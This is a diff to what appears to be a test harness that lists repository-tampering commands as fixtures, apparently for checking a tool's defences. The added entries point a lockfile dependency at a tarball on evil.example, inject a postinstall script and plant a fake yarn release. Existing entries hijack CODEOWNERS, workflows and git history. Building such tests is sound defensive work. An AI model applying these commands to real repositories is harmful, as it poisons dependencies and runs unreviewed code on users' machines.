@@ -439,6 +439,9 @@ git replace evil HEAD; git rev-parse HEAD > .git/info/grafts; rm -f .git/shallow
     "workflow": "mkdir -p .github/workflows; echo 'on: push' > .github/workflows/x.yml",
     "owners": "echo '* @mallory' > docs/CODEOWNERS",
     "attributes": "echo '* -diff' > .gitattributes",
+    "foreign": 'sed -i \'s#"1\\.0\\.0"#"1.0.1", "resolved": "https://evil.example/x.tgz"#\' package-lock.json',
+    "install_script": 'sed -i \'s#^{#{"scripts": {"postinstall": "node src/index.js"}, #\' package.json',
+    "yarn_release": "mkdir -p .yarn/releases; echo 1 > .yarn/releases/yarn-4.0.0.cjs",
     "files": "python3 -c 'for one in range(100_000): open(str(one), \"w\").close()'",
     "huge": "truncate -s 200M large.bin",
     "pipe": "rm package.json; mkfifo package.json",
@@ -471,6 +474,7 @@ def write_fetch(prompt):
     """Asks the registry for what the brief names, one path a line, and leaves the answers in the tree."""
     base = os.environ["npm_config_registry"]
     with open("fetched.txt", "w") as file:
+        file.write(f"ENV ignore_scripts {os.environ['npm_config_ignore_scripts']}\n")
         for method, path in re.findall(r"^Ask: (\S+) (\S+)$", prompt, re.MULTILINE):
             try:
                 address = path if path.startswith("http") else base + path
